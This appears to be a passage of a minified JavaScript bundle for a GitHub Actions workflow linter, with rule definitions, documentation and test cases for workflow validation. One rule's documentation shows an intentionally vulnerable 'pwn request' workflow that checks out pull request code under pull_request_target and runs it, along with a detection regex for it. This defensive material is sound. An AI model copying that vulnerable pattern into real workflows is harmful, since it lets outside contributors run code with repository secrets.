`,expect:[]}]};function av(n){return!!n&&typeof n=="object"&&!Array.isArray(n)}var lv=lC;var uC={id:"missing-key",language:["workflow","action"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"Keys GitHub requires are missing: `on` and `jobs` in a workflow, `runs-on` and `steps` in a job, `run` or `uses` in a step, `type` of a `workflow_call` input, `value` of an output, `image` of a container, `name`/`description`/`runs` in action metadata, and so on.",why:"GitHub refuses the whole workflow when a required key is missing, often with a message far from the cause. Seeing it in the editor saves a push and a failed run.",bad:`on: push
jobs:
  build:
    steps:
      - run: make
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`},check(n){Pe(n,"missing-key")},tests:[{name:"empty workflow",input:`# nothing yet
`,expect:[{line:1,message:"workflow is empty"}]},{name:"missing on and jobs",input:`name: x
`,expect:[{line:1,message:'"on" section is missing'},{line:1,message:'"jobs" section is missing'}]},{name:"job without runs-on and steps, step without run or uses",input:`on: push
jobs:
  test:
    name: t
  b:
    runs-on: ubuntu-latest
    steps:
      - name: nothing
`,expect:[{line:3,col:3,message:'"runs-on" is missing in job "test"'},{line:3,col:3,message:'"steps" section is missing in job "test"'},{line:8,col:9,message:'step must run a script with "run" or run an action with "uses"'}]},{name:"workflow_call input type and output value",input:`on:
  workflow_call:
    inputs:
      foo:
        description: d
    outputs:
      bar:
        description: d
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:4,col:7,message:'"type" is missing in input "foo" of workflow_call event'},{line:7,col:7,message:'"value" is missing in output "bar" of workflow_call event'}]},{name:"container image, credentials pair, environment name, concurrency group",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container:
      options: --cpus 1
      credentials:
        username: u
    environment:
      url: https://x
    concurrency:
      cancel-in-progress: true
    steps:
      - run: echo
`,expect:[{line:5,col:5,message:'"image" is missing in "container" section'},{line:7,col:7,message:'both "username" and "password"'},{line:9,col:5,message:'"name" is missing in "environment" section'},{line:11,col:5,message:'"group" is missing in "concurrency" section'}]},{name:"action metadata",path:"action.yml",input:`name: a
runs:
  using: node20
`,expect:[{line:1,message:'"description" is missing'},{line:2,message:'"main" is missing'}]},{name:"composite run steps need a shell",path:"action.yml",input:`name: a
description: d
runs:
  using: composite
  steps:
    - run: echo
`,expect:[{line:6,message:'"shell" is missing'}]},{name:"fix: add runs-on to a job",input:`on: push
jobs:
  test:
    steps:
      - run: make
`,expect:[{line:3,col:3,message:'"runs-on" is missing'}],fixed:`on: push
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make
`},{name:"fix: add shell to a composite run step and type to a workflow_call input",path:"action.yml",input:`name: a
description: d
runs:
  using: composite
  steps:
    - run: echo
      working-directory: x
`,expect:[{line:6,message:'"shell" is missing'}],fixed:`name: a
description: d
runs:
  using: composite
  steps:
    - shell: bash
      run: echo
      working-directory: x
`},{name:"fix: workflow_call input type and concurrency group",input:`on:
  workflow_call:
    inputs:
      foo:
        description: d
jobs:
  a:
    runs-on: ubuntu-latest
    concurrency:
      cancel-in-progress: true
    steps:
      - run: echo
`,expect:[{line:4,message:'"type" is missing'},{line:9,message:'"group" is missing'}],fixed:`on:
  workflow_call:
    inputs:
      foo:
        type: string
        description: d
jobs:
  a:
    runs-on: ubuntu-latest
    concurrency:
      group: \${{ github.workflow }}-\${{ github.ref }}
      cancel-in-progress: true
    steps:
      - run: echo
`},{name:"complete workflow, reusable call job and container string",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    container: node:20
    steps:
      - uses: actions/checkout@v4
  b:
    uses: ./.github/workflows/x.yml
`,files:{".github/workflows/x.yml":`on: workflow_call
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},expect:[]}]},uv=uC;var pC={id:"outdated-action",language:["workflow","action"],severity:"warning",compat:{actionlint:"action"},docs:{summary:"A popular action is used at a major version whose runtime (node12, node16) GitHub no longer provides, or at an archived version.",why:"GitHub forces such actions onto a newer Node.js, and they break or stop being supported without notice. The fix moves to the current major version (check its release notes for changed inputs).",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v2
      - uses: actions/setup-python@v3
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-python@v5
`},check({model:n,report:e}){for(let{step:t}of xe(n)){if(!t.uses||!t.usesNode)continue;let s=ct(t.uses.trim());if(!s)continue;let i=wa(s.name),r=ba(s.ref);if(!i||i.minMajor===void 0||r===void 0||r>=i.minMajor)continue;let o=n.rangeOf(t.usesNode),a=`${s.name}@${i.current}`,c=i.minMajor>=99;e({message:c?`the action "${t.uses.trim()}" is archived and runs on a Node.js runtime GitHub no longer provides; replace it with a maintained action`:`the runner of "${t.uses.trim()}" action is too old to run on GitHub Actions. update the action's version to fix this issue (current: ${i.current})`,range:o,fixes:c?void 0:[{title:`Update to ${a}`,preferred:!0,edits:[{range:o,newText:a}]}]})}},tests:[{name:"outdated majors with a fix",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v2
      - uses: actions/cache@v3.3.1
        with:
          path: x
          key: k
      - uses: actions/create-release@v1
`,expect:[{line:6,col:15,message:'the runner of "actions/checkout@v2" action is too old'},{line:7,col:15,message:"actions/cache@v3.3.1"},{line:11,col:15,message:"archived"}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
      - uses: actions/cache@v4
        with:
          path: x
          key: k
      - uses: actions/create-release@v1
`},{name:"current majors, SHAs, branches and unknown actions",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: actions/setup-node@main
      - uses: someone/old-thing@v1
`,expect:[]}]},pv=pC;var dC={id:"permissions",language:"workflow",severity:"error",compat:{actionlint:"permissions"},docs:{summary:"`permissions:` with an unknown scope or a level the scope does not take (`id-token` is `write` or `none`, `models` is `read` or `none`; the whole block is `read-all`, `write-all` or a mapping).",why:"GitHub rejects the workflow. A misspelt scope (`pull-request`, `content`) would otherwise leave the token without the access the job needs.",bad:`on: push
permissions:
  content: read
  id-token: read
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`,good:`on: push
permissions:
  contents: read
  id-token: write
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: make
`},check(n){Pe(n,"permissions")},tests:[{name:"scopes and levels",input:`on: push
permissions:
  contents: foo
  unknown: read
  id-token: read
  models: write
  pages: READ
  CHECKS: write
jobs:
  a:
    runs-on: ubuntu-latest
    permissions: read
    steps:
      - run: echo
`,expect:[{line:3,col:13,message:'"foo" is invalid as permission of scope "contents". available values are "read", "write", "none"'},{line:4,col:3,message:'unknown permission scope "unknown"'},{line:5,col:13,message:'available values are "write", "none"'},{line:6,col:11,message:'available values are "read", "none"'},{line:7,col:10,message:'"READ" is invalid'},{line:8,col:3,message:'Did you mean "checks"'},{line:12,col:18,message:'"read" is invalid for permission for all the scopes'}]},{name:"fix to the right case",input:`on: push
permissions:
  pages: Write
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,expect:[{line:3,message:'"Write" is invalid'}],fixed:`on: push
permissions:
  pages: write
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},{name:"valid permissions",input:`on: push
permissions: read-all
jobs:
  a:
    runs-on: ubuntu-latest
    permissions:
      contents: write
      id-token: write
      pull-requests: none
      security-events: read
      attestations: write
    steps:
      - run: echo
  b:
    runs-on: ubuntu-latest
    permissions: {}
    steps:
      - run: echo
`,expect:[]}]},dv=dC;var fC=/github\.event\.pull_request\.head\.(sha|ref)|github\.head_ref|github\.event\.workflow_run\.head_(sha|branch)|refs\/pull\/.*\/(merge|head)|github\.event\.number|github\.event\.pull_request\.number/,hC={id:"pr-target-checkout",language:"workflow",severity:"warning",compat:{},docs:{summary:"A workflow triggered by `pull_request_target` (or `workflow_run`) checks out the pull request's code with `actions/checkout` and `ref:` pointing at the head of the pull request.",why:"These triggers run with the base repository's secrets and a write token. Checking out and building the contributor's code lets anyone who opens a pull request run commands with those secrets (\"pwn request\"). Use `pull_request` for building untrusted code, or keep the checkout of the head away from secrets and from scripts that execute it.",bad:`on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - run: npm ci && npm test
`,good:`on: pull_request
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci && npm test
`},check({model:n,report:e}){let s=K(n).events.map(i=>i.name).find(i=>i==="pull_request_target"||i==="workflow_run");if(s)for(let{step:i}of xe(n)){let r=i.uses?ct(i.uses.trim()):void 0;if(!(!r||r.name.toLowerCase()!=="actions/checkout"||!i.with))for(let o of i.with.items){if(P(o.key)!=="ref")continue;let a=P(o.value);a&&fC.test(a)&&e({message:`the ${s} trigger runs with secrets and a write token, and this step checks out the pull request's code (${a.trim()}): building or running it lets the pull request's author run code with those secrets`,range:n.rangeOf(o)})}}},tests:[{name:"head checkout under pull_request_target",input:`on:
  pull_request_target:
    types: [opened]
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: actions/checkout@v4
        with:
          ref: refs/pull/\${{ github.event.number }}/merge
`,expect:[{line:10,col:11,message:"pull_request_target trigger runs with secrets"},{line:13,col:11,message:"refs/pull"}]},{name:"base checkout, or pull_request",input:`on:
  pull_request_target:
  pull_request:
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: actions/checkout@v4
        with:
          ref: main
`,expect:[]}]},fv=hC;var mC=/^[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+\/(?:[^@\s]+\/)?[^@/\s]+\.ya?ml@[^@\s]+$/,gC=/^\.\/[^@\s]+\.ya?ml$/,yC=/^\$\/[^@\s]+\.ya?ml$/,bC={id:"reusable-workflow",language:"workflow",severity:"error",compat:{actionlint:"workflow-call"},docs:{summary:"A job's `uses:` must be `owner/repo/path/to/workflow.yml@ref`, `./.github/workflows/workflow.yml` or `$/.github/workflows/workflow.yml` (no `@ref`); a local called workflow must have `on: workflow_call`, and the call must pass its required inputs and secrets and no unknown ones.",why:"GitHub rejects the calling workflow when the reference is malformed or the inputs do not match, and only tells you after the push. Checking against the callee in the same repository catches renamed or newly required inputs.",bad:`on: push
jobs:
  deploy:
    uses: ./.github/workflows/deploy.yml
    with:
      enviroment: prod
`,good:`on: push
jobs:
  deploy:
    uses: ./.github/workflows/deploy.yml
    with:
      environment: prod
`,files:{".github/workflows/deploy.yml":`on:
  workflow_call:
    inputs:
      environment:
        type: string
        required: true
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
`}},check({model:n,files:e,path:t,report:s}){let i=()=>n.memoize("projectRoot",()=>yt(t,e));for(let r of K(n).jobs){if(r.uses===void 0||!r.usesNode||r.uses.includes("${{"))continue;let o=r.uses.trim(),a=n.rangeOf(r.usesNode);if(o==="")continue;let c=Ve(o);if(c?.kind==="self"&&!yC.test(o)){let d=o.indexOf("@");s({message:d>=0?`self-repository reusable workflow call ${JSON.stringify(o)} at "uses" must not have a @ref: "$/" always calls this repository at the commit being run. remove ${JSON.stringify(o.slice(d))}, or use "{owner}/{repo}/path/to/workflow.yml@{ref}" for another ref`:`self-repository reusable workflow call ${JSON.stringify(o)} at "uses" is not following the format "$/path/to/workflow.yml"`,range:a});continue}if(c?c.kind==="workspace"&&!gC.test(o):!mC.test(o)){s({message:`reusable workflow call ${JSON.stringify(o)} at "uses" is not following the format "owner/repo/path/to/workflow.yml@ref" nor "./path/to/workflow.yml". see https://docs.github.com/en/actions/learn-github-actions/reusing-workflows for more details`,range:a});continue}let l=c?i():void 0;if(!l)continue;let u=Kb(l,o,e);if(!u){s({message:`reusable workflow ${JSON.stringify(o)} does not exist in this repository`,range:a});continue}if(!u.callable){s({message:`workflow ${JSON.stringify(o)} cannot be called: its "on:" has no "workflow_call" trigger`,range:a});continue}let p=(d,f,h)=>{let m=T(n,r.pairs.get(d)?.value);if(d==="secrets"&&F(m)&&m.value==="inherit")return;let g=new Map;if(L(m))for(let v of m.items){let O=P(v.key);O!==void 0&&g.set(O.toLowerCase(),v)}let w=[...f.values()].map(v=>v.name);for(let[v,O]of g){if(f.has(v))continue;let S=P(O.key),A=n.keyRange(O),C=ae(S,w.filter(E=>!g.has(E.toLowerCase())));s({message:`${h} ${JSON.stringify(S)} is not defined in ${JSON.stringify(o)} reusable workflow. ${w.length?`defined ${h}s are ${w.map(E=>JSON.stringify(E)).join(", ")}`:`it defines no ${h}s`}`+(C?`. Did you mean ${JSON.stringify(C)}?`:""),range:A,fixes:C?[{title:`Change to "${C}"`,preferred:!0,edits:[{range:A,newText:C}]}]:void 0})}for(let v of f.values())!v.required||v.hasDefault||g.has(v.name.toLowerCase())||s({message:`${h} ${JSON.stringify(v.name)} is required by ${JSON.stringify(o)} reusable workflow, but it is not given in "${d}:"`,range:a})};p("with",u.inputs,"input"),p("secrets",u.secrets,"secret")}},tests:[{name:"malformed references",input:`on: push
jobs:
  a:
    uses: owner/repo@main
  b:
    uses: ./foo/bar/workflow.yml@main
  c:
    uses: foo/workflow.yml@main
  d:
    uses: foo/bar/workflow.yml
`,expect:[{line:4,col:11,message:"is not following the format"},{line:6,col:11,message:"is not following the format"},{line:8,col:11,message:"is not following the format"},{line:10,col:11,message:"is not following the format"}]},{name:"inputs and secrets checked against the local callee",input:`on: push
jobs:
  a:
    uses: ./.github/workflows/called.yml
    with:
      nmae: x
    secrets:
      tokn: \${{ secrets.T }}
  b:
    uses: ./.github/workflows/missing.yml
  c:
    uses: ./.github/workflows/plain.yml
`,files:{".github/workflows/called.yml":`on:
  workflow_call:
    inputs:
      name:
        type: string
        required: true
      opt:
        type: string
    secrets:
      token:
        required: true
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,".github/workflows/plain.yml":`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},expect:[{line:4,col:11,message:'input "name" is required'},{line:4,col:11,message:'secret "token" is required'},{line:6,col:7,message:'input "nmae" is not defined'},{line:8,col:7,message:'secret "tokn" is not defined'},{line:10,col:11,message:"does not exist"},{line:12,col:11,message:'no "workflow_call" trigger'}]},{name:"self-repository calls ($/): callee present and absent, inputs and secrets checked, @ref rejected",input:`on: push
jobs:
  a:
    uses: $/.github/workflows/reuse.yml
    with:
      envv: prod
  b:
    uses: $/.github/workflows/missing.yml
  c:
    uses: $/.github/workflows/reuse.yml@v1
  d:
    uses: $/.github/workflows/reuse
  e:
    uses: $/.github/workflows/reuse.yml
    with:
      env: prod
    secrets:
      token: \${{ secrets.T }}
`,files:{".github/workflows/reuse.yml":`on:
  workflow_call:
    inputs:
      env:
        type: string
        required: true
    secrets:
      token:
        required: true
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},expect:[{line:4,col:11,message:'input "env" is required by "$/.github/workflows/reuse.yml" reusable workflow, but it is not given in "with:"'},{line:4,col:11,message:'secret "token" is required by "$/.github/workflows/reuse.yml" reusable workflow'},{line:6,col:7,message:'input "envv" is not defined in "$/.github/workflows/reuse.yml" reusable workflow. defined inputs are "env". Did you mean "env"?'},{line:8,col:11,message:'reusable workflow "$/.github/workflows/missing.yml" does not exist in this repository'},{line:10,col:11,message:'self-repository reusable workflow call "$/.github/workflows/reuse.yml@v1" at "uses" must not have a @ref: "$/" always calls this repository at the commit being run. remove "@v1"'},{line:12,col:11,message:'self-repository reusable workflow call "$/.github/workflows/reuse" at "uses" is not following the format "$/path/to/workflow.yml"'}]},{name:"valid calls",input:`on: push
jobs:
  a:
    uses: ./.github/workflows/called.yml
    with:
      NAME: x
    secrets: inherit
  b:
    uses: octo-org/example-repo/.github/workflows/reusable.yml@v1
    with:
      anything: 1
`,files:{".github/workflows/called.yml":`on:
  workflow_call:
    inputs:
      name:
        type: string
        required: true
    secrets:
      token:
        required: true
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`},expect:[]}]},hv=bC;var _s=["ubuntu-latest","ubuntu-24.04","ubuntu-22.04","ubuntu-slim","ubuntu-24.04-arm","ubuntu-22.04-arm","windows-latest","windows-2025","windows-2022","windows-11-arm","macos-latest","macos-26","macos-15","macos-14","macos-13","macos-15-intel","macos-latest-large","macos-26-large","macos-15-large","macos-14-large","macos-13-large","macos-latest-xlarge","macos-26-xlarge","macos-15-xlarge","macos-14-xlarge","macos-13-xlarge"],Vp=["ubuntu-16.04","ubuntu-18.04","ubuntu-20.04","windows-2016","windows-2019","macos-10.15","macos-11","macos-12","macos-12-xl","macos-13-xl"],zp=["self-hosted","linux","windows","macos","x64","x86","arm","arm32","arm64"];function Vi(n){let e=n.toLowerCase();if(e==="linux"||e.startsWith("ubuntu-"))return"linux";if(e==="windows"||e.startsWith("windows-"))return"windows";if(e==="macos"||e.startsWith("macos-"))return"macos"}function wC(n,e){return new RegExp("^"+n.replace(/[.+^${}()|[\]\\]/g,"\\$&").replace(/\*/g,".*").replace(/\?/g,".")+"$","i").test(e)}function vC(n,e){let t=e.runsOn;L(t)&&(t=T(n,Y(n,t).get("labels")?.value));let s=G(t)?t.items.map(o=>T(n,o)):t!==void 0?[t]:[],i=[],r=[];for(let o of s){let a=P(o);if(a===void 0||!F(o))continue;let c=/^\$\{\{\s*matrix\.([A-Za-z_][\w-]*)\s*\}\}$/.exec(a.trim());if(c){let l=kC(n,e,c[1]);l&&r.push(l);continue}if(a.includes("${{"))return[];i.push({name:a,node:o})}return r.length?r[0].map(o=>[...i,o]):[i]}function kC(n,e,t){let s=T(n,e.pairs.get("strategy")?.value);if(!L(s))return;let i=T(n,Y(n,s).get("matrix")?.value);if(!L(i))return;let r=Y(n,i),o=[],a=T(n,r.get(t)?.value);if(G(a))for(let l of a.items){let u=T(n,l),p=P(u);if(p===void 0||!F(u)||p.includes("${{"))return;o.push({name:p,node:u})}else if(a!==void 0)return;let c=T(n,r.get("include")?.value);if(G(c))for(let l of c.items){let u=T(n,l);if(!L(u))continue;let p=T(n,Y(n,u).get(t)?.value),d=P(p);if(d!==void 0&&F(p)&&!d.includes("${{"))o.push({name:d,node:p});else if(p!==void 0)return}else if(c!==void 0)return;return o.length?o:void 0}var xC=[..._s,...zp],RC={id:"runner-label",language:"workflow",severity:"warning",compat:{actionlint:"runner-label"},docs:{summary:"`runs-on` labels that no GitHub-hosted runner has (a typo or a retired image such as `ubuntu-20.04` or `macos-12`), and GitHub-hosted labels combined so that no runner can match them all (an error). A retired name beside `self-hosted` or a custom label is a label of a self-hosted runner and is left alone. Add your self-hosted and larger-runner labels with the `runnerLabels` option.",why:"A job whose labels match no runner waits in the queue until it times out (24 hours) instead of failing. Listing several operating systems in one `runs-on` does not run the job on each: use a matrix.",bad:`on: push
jobs:
  test:
    runs-on: [ubuntu-latest, windows-latest]
    steps:
      - run: make test
  old:
    runs-on: ubuntu-20.04
    steps:
      - run: make test
`,good:`on: push
jobs:
  test:
    strategy:
      matrix:
        os: [ubuntu-latest, windows-latest]
    runs-on: \${{ matrix.os }}
    steps:
      - run: make test
  old:
    runs-on: ubuntu-24.04
    steps:
      - run: make test
`},check({model:n,options:e,report:t}){let s=xC,i=e.runnerLabels??[],r=c=>i.some(l=>wC(l,c)),o=new Set,a=(c,l,u,p)=>{let d=`${c.start.line}:${c.start.character}:${l}`;o.has(d)||(o.add(d),t({message:l,range:c,severity:u,fixes:p?[{title:`Change to "${p}"`,preferred:!0,edits:[{range:c,newText:p}]}]:void 0}))};for(let c of K(n).jobs)if(!(c.uses||!c.runsOn)&&!(L(c.runsOn)&&Y(n,c.runsOn).has("group")))for(let l of vC(n,c)){let u=l.some(h=>h.name.toLowerCase()==="self-hosted"),p=u||l.some(h=>{let m=h.name.toLowerCase();return h.name!==""&&(r(h.name)||!s.includes(m)&&!Vp.includes(m))});for(let h of l){let m=h.name.toLowerCase();if(h.name===""||r(h.name))continue;if(Vp.includes(m)){if(p)continue;a(n.rangeOf(h.node),`label ${JSON.stringify(h.name)} is unknown: GitHub has retired this runner image, so the job would never start`,"error");continue}if(u||s.includes(m))continue;let g=ae(h.name,_s);a(n.rangeOf(h.node),`label ${JSON.stringify(h.name)} is unknown. available labels are ${_s.map(w=>JSON.stringify(w)).join(", ")}. if it is a custom label for a self-hosted or larger runner, add it to the runnerLabels option`+(g?`. Did you mean ${JSON.stringify(g)}?`:""),void 0,g)}if(u)continue;let d=l.filter(h=>_s.includes(h.name.toLowerCase()));if(!d.length)continue;let f=d[0];for(let h of l){if(h===f)continue;let m=h.name.toLowerCase(),g=Vi(m);if((_s.includes(m)||zp.includes(m))&&!!g&&g!==Vi(f.name)){let v=n.rangeOf(f.node).start;a(n.rangeOf(h.node),`label ${JSON.stringify(h.name)} conflicts with label ${JSON.stringify(f.name)} defined at line:${v.line+1},col:${v.character+1}. note: to run your job on each of them, use a matrix`,"error")}}}},tests:[{name:"unknown and retired labels",input:`on: push
jobs:
  a:
    runs-on: ubuntu-lastest
    steps:
      - run: echo
  b:
    runs-on: macos-12
    steps:
      - run: echo
`,expect:[{line:4,col:14,message:'label "ubuntu-lastest" is unknown',severity:"warning"},{line:8,col:14,message:"retired",severity:"error"}],fixed:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
  b:
    runs-on: macos-12
    steps:
      - run: echo
`},{name:"conflicting labels, also through a matrix",input:`on: push
jobs:
  a:
    runs-on: [ubuntu-latest, windows-latest]
    steps:
      - run: echo
  b:
    strategy:
      matrix:
        os: [windows-latest, windows]
    runs-on: [ubuntu-latest, '\${{ matrix.os }}']
    steps:
      - run: echo
`,expect:[{line:4,col:30,message:'label "windows-latest" conflicts with label "ubuntu-latest" defined at line:4,col:15',severity:"error"},{line:10,col:14,message:'conflicts with label "ubuntu-latest" defined at line:11,col:15'},{line:10,col:30,message:'label "windows" conflicts'}]},{name:"matrix values are checked",input:`on: push
jobs:
  a:
    strategy:
      matrix:
        os: [ubuntu-latest, macos-lates]
    runs-on: \${{ matrix.os }}
    steps:
      - run: echo
`,expect:[{line:6,col:29,message:'Did you mean "macos-latest"'}]},{name:"self-hosted, groups, custom labels, expressions and labels of the same system",options:{runnerLabels:["gpu-*"]},input:`on: push
jobs:
  a:
    runs-on: [self-hosted, linux, my-label]
    steps:
      - run: echo
  b:
    runs-on:
      group: big
      labels: [custom]
    steps:
      - run: echo
  c:
    runs-on: gpu-a100
    steps:
      - run: echo
  d:
    runs-on: \${{ inputs.runner }}
    steps:
      - run: echo
  e:
    runs-on: [ubuntu-24.04-arm]
    steps:
      - run: echo
  f:
    runs-on: [ubuntu-latest, ubuntu-24.04, linux]
    steps:
      - run: echo
`,expect:[]},{name:"a retired image name on a self-hosted runner is only a label",options:{runnerLabels:["gpu-*"]},input:`on: push
jobs:
  a:
    runs-on: [self-hosted, ubuntu-20.04]
    steps:
      - run: echo
  b:
    runs-on: [gpu-a100, macos-12]
    steps:
      - run: echo
  c:
    runs-on: [Self-Hosted, linux, windows-2019]
    steps:
      - run: echo
  d:
    runs-on: [my-pool, ubuntu-18.04]
    steps:
      - run: echo
`,expect:[{line:16,col:15,message:'label "my-pool" is unknown',severity:"warning"}]},{name:"a retired image beside GitHub-hosted or generic labels is still retired",input:`on: push
jobs:
  a:
    runs-on: [linux, ubuntu-20.04]
    steps:
      - run: echo
  b:
    runs-on: [ubuntu-latest, ubuntu-20.04]
    steps:
      - run: echo
`,expect:[{line:4,col:22,message:'label "ubuntu-20.04" is unknown: GitHub has retired this runner image',severity:"error"},{line:8,col:30,message:"retired",severity:"error"}]}]},mv=RC;var yv=ie(require("node:path"));var OC=new Set(["token","ssh-key","ssh-known-hosts","ssh-strict","ssh-user","persist-credentials","clean","filter","fetch-depth","fetch-tags","show-progress","lfs","submodules","set-safe-directory","github-server-url"]),SC=/\bgit\b[^\n;&|]*?\s(?:checkout|switch|reset|restore|pull|merge|rebase|cherry-pick|revert|apply|am|stash|clean|rm|mv|worktree|clone|read-tree|submodule)\b|\bgh\s+(?:pr|repo)\s+(?:checkout|clone)\b/;function MC(n,e,t,s){let i=!1;for(let r of e.slice(0,t)){let o=r.uses?.trim();if(o&&ct(o)?.name.toLowerCase()==="actions/checkout"){let a=vp(n,r),c=a.has("path")?(a.get("path")??"${{").trim().replace(/^\.\/?/,"").replace(/\/+$/,""):"";c===""?i=!r.pairs.has("if")&&[...a.keys()].every(l=>OC.has(l)):(c.includes("${{")||s===c||s.startsWith(c+"/"))&&(i=!1);continue}o&&/checkout|clone/i.test(o)&&(i=!1),r.run!==void 0&&(SC.test(r.run)||s!==""&&r.run.includes(s))&&(i=!1)}return i}function gv(n,e,t){let s=e.range;if(!s||Li(n,s[0]))return;let i=e.type==="PLAIN"?0:e.type==="QUOTE_DOUBLE"||e.type==="QUOTE_SINGLE"?1:-1;if(i<0||!n.text.startsWith("./",s[0]+i))return;let r=n.lines.positionAt(s[0]+i);return{title:`Use "$/${t}"`,preferred:!0,edits:[{range:{start:r,end:{line:r.line,character:r.character+2}},newText:"$/"}]}}var $s={".github/actions/hello/action.yml":`name: h
description: d
runs:
  using: composite
  steps: []
`,".github/workflows/reuse.yml":`on: workflow_call
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`,"action.yml":`name: h
description: d
runs:
  using: composite
  steps: []
`},AC={id:"self-repository-ref",language:"workflow",severity:"info",compat:{},docs:{summary:"A step uses an action, or a job calls a reusable workflow, of this repository with `./path`: prefer the self-repository reference `$/path` (GitHub, July 2026). A quick fix is offered where both certainly mean the same.",why:"`./path` is read from the workspace, so a step needs a checkout first, and whatever an earlier step leaves in the workspace (another checkout, a `git checkout` of another ref, a pull request's files) is what runs. `$/path` is read from this repository at the commit being run: no checkout, and no earlier step can replace it (https://github.blog/changelog/2026-07-30-reference-same-repository-actions-with-self-repository-syntax/, https://docs.github.com/en/actions/how-tos/reuse-automations/reuse-workflows). The fix is offered for a job's reusable workflow call (`./` already means the caller's commit there), and for a step only after a plain, unconditional `actions/checkout` of this repository into the workspace with no later step checking out something else, running git commands that change the files or naming the action's folder; elsewhere the finding comes without a fix, since the two may differ. Steps of a workflow with `on: workflow_call` are left alone: called from another repository, its `./` is the caller's checkout, which may be intended; the calls of its jobs get no fix. `action.yml` is not checked: in a composite action `./` is the caller's workspace while `$/` is the action's own repository. `$/` is not available on GitHub Enterprise Server and needs runner 2.336.0 or newer: turn the rule off there.",bad:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: ./.github/actions/setup
  deploy:
    uses: ./.github/workflows/deploy.yml
`,good:`on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: $/.github/actions/setup
  deploy:
    uses: $/.github/workflows/deploy.yml
`,files:{".github/actions/setup/action.yml":`name: setup
description: d
runs:
  using: composite
  steps: []
`,".github/workflows/deploy.yml":`on: workflow_call
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - run: echo
`}},check({model:n,files:e,path:t,report:s}){let i=K(n),r=i.events.some(c=>c.name==="workflow_call"),o=()=>n.memoize("projectRoot",()=>yt(t,e)),a=new Set;for(let c of i.jobs){if(c.uses!==void 0&&c.usesNode&&!a.has(c.usesNode)){a.add(c.usesNode);let l=c.uses.trim(),u=Ve(l);if(u?.kind==="workspace"&&/^\.\/[^@\s]+\.ya?ml$/.test(l)&&!l.includes("${{")){let p=r?void 0:gv(n,c.usesNode,u.path);s({message:`prefer "$/${u.path}" to ${JSON.stringify(l)}: "$/" is the recommended reference to a reusable workflow of this repository (the same commit as the caller)`+(r?`. no quick fix: this workflow has "workflow_call", and when another repository calls it, "./" may be looked up in the caller's repository`:""),range:n.rangeOf(c.usesNode),fixes:p&&[p]})}}r||c.steps.forEach((l,u)=>{if(l.uses===void 0||!l.usesNode||a.has(l.usesNode))return;a.add(l.usesNode);let p=l.uses.trim(),d=Ve(p);if(d?.kind!=="workspace"||d.path.replace(/^[./]+/,"")===""||p.includes("@")||p.includes("${{"))return;let f=o(),h=d.path.replace(/\/+$/,"");if(!f||!["action.yml","action.yaml","Dockerfile"].some(w=>e.exists(yv.posix.join(f,h,w))))return;let m=i.jobs.every(w=>w.steps.every((v,O)=>v.usesNode!==l.usesNode||MC(n,w.steps,O,h))),g=m?gv(n,l.usesNode,d.path):void 0;s({message:`prefer "$/${d.path}" to ${JSON.stringify(p)}: "$/" reads this repository at the running commit, needs no checkout and cannot be replaced by an earlier step`+(m?"":". no quick fix: at this step the workspace may not hold this commit (no plain checkout of this repository before it, or a later step changes the files), so the two may differ"),range:n.rangeOf(l.usesNode),fixes:g&&[g]})})}},tests:[{name:"a job calling a reusable workflow of this repository with ./: fixed, quoted or not",input:`on: push
jobs:
  a:
    uses: ./.github/workflows/reuse.yml
  b:
    uses: './.github/workflows/reuse.yml'
`,files:$s,expect:[{line:4,col:11,message:'prefer "$/.github/workflows/reuse.yml" to "./.github/workflows/reuse.yml": "$/" is the recommended reference to a reusable workflow of this repository (the same commit as the caller)'},{line:6,col:11,message:'prefer "$/.github/workflows/reuse.yml"'}],fixed:`on: push
jobs:
  a:
    uses: $/.github/workflows/reuse.yml
  b:
    uses: '$/.github/workflows/reuse.yml'
`},{name:"a step after a plain checkout of this repository: fixed (another checkout into a folder leaves the root alone)",input:`on: push
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
